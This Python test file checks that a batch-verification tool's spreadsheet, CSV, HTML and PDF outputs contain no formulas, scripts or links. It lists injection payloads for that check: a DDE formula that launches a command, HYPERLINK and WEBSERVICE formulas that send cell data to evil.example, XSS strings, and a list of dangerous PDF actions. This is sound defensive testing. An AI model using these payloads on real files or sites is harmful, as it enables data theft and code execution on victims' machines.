"""Cells that want to be more than text: through every kind of file that is given out, none becomes a formula, a script or a link."""

from __future__ import annotations

import csv
import re
import zlib
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from batchverify.job import Mandate, Options
from batchverify.job.reporting import report_job
from batchverify.words import Lang
from tests.builders import a_row, a_sheet
from tests.threats import guards

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=1+1;=2",
    "',=1+1",
    '"=1+1"',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></style><script>alert(1)</script>",
    "javascript:alert(1)",
    '#eval("1 + 1")',
    '#link("http://evil.example")[x]',
    "\\u0000{{7*7}}${7*7}",
)
_ACTIVE = re.compile(r"[=+\-@\t\r＝＋－＠]")


class _Page(HTMLParser):
    """Collects whatever of a page could run, load or lead somewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "iframe", "object", "embed", "img", "link", "a", "form", "base", "video", "svg"}:
            self.live += [tag] if tag != "svg" else []
        self.live += [name for name, value in attrs if name.startswith("on") or name in {"href", "src", "action"}]


@pytest.fixture(params=["xlsx", "csv"])
def done(request, desk):
    """A run over a sheet that has every payload in a cell, a header and in what is recorded of the run."""
    people = [a_row(number, remark=payload) | {"=1+1": payload} for number, payload in enumerate(PAYLOADS, 1)]
    path = a_sheet(desk.folder, people, name=f"=people.{request.param}")
    mandate = Mandate(operator=PAYLOADS[5], purpose=PAYLOADS[18], authorization=PAYLOADS[0])
    return desk.verify(path, options=Options(mandate=mandate))


def active(path, *, of) -> list[str]:
    """Cells of a csv that a spreadsheet program would work out, in the columns whose header is asked for."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    header = next(row for row in rows if "bv_status" in row)
    places = [place for place, word in enumerate(header) if of(word)]
    return [row[place] for row in rows for place in places if place < len(row) and _ACTIVE.match(row[place])]


@guards("formulas")
def test_no_cell_that_we_write_is_a_formula_or_a_link(done, desk):
    if done.path.suffix == ".csv":
        # What the user's own csv says comes out as it went in, and may be meant; what is ours or the vendor's is guarded.
        assert active(done.path, of=lambda word: word.startswith("bv_")) == []
        return
    first, *others = load_workbook(done.path).worksheets
    cells = [cell for sheet in others for row in sheet.iter_rows() for cell in row]
    cells += [cell for row in first.iter_rows() for cell in row if str(first.cell(1, cell.column).value).startswith("bv_")]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink is not None] == []
    assert len(cells) > 500

    # In the workbook most of theirs were texts; in a csv they would become formulas.
    target = desk.folder / "as-text.csv"
    change = lambda kept: replace(kept, delivery=replace(kept.delivery, output=target))  # noqa: E731
    desk.render(done.job, change=change)
    assert active(target, of=lambda _: True) == []


@guards("formulas")
@pytest.mark.parametrize("form", ["xlsx", "html", "pdf"])
def test_no_report_has_a_formula_a_script_or_a_link(done, desk, form):
    target = report_job(done.job, desk.folder / f"report.{form}", desk.session(), lang=Lang.EN)

    match form:
        case "xlsx":
            cells = [cell for sheet in load_workbook(target).worksheets for row in sheet.iter_rows() for cell in row]
            assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink is not None] == []
            assert any(cell.value == PAYLOADS[5] for cell in cells)
        case "html":
            page = target.read_text("utf-8")
            found = _Page()
            found.feed(page)
            assert found.live == []
            assert "default-src 'none'" in page
            assert "&lt;script&gt;" in page
        case _:
            content = target.read_bytes()
            streams = [content, *map(_inflated, re.findall(rb"stream\r?\n(.*?)endstream", content, re.DOTALL))]
            active = (
                b"/JavaScript",
                b"/JS",
                b"/URI",
                b"/Launch",
                b"/OpenAction",
                b"/AA",
                b"/SubmitForm",
                b"/RichMedia",
                b"/GoToR",
            )
            assert [word for word in active for stream in streams[1:] if stream.startswith(b"<<") and word in stream] == []
            assert [word for word in active if re.search(word + rb"\b", content)] == []


def _inflated(stream: bytes) -> bytes:
    try:
        return zlib.decompressobj().decompress(stream)
    except zlib.error:
        return b""
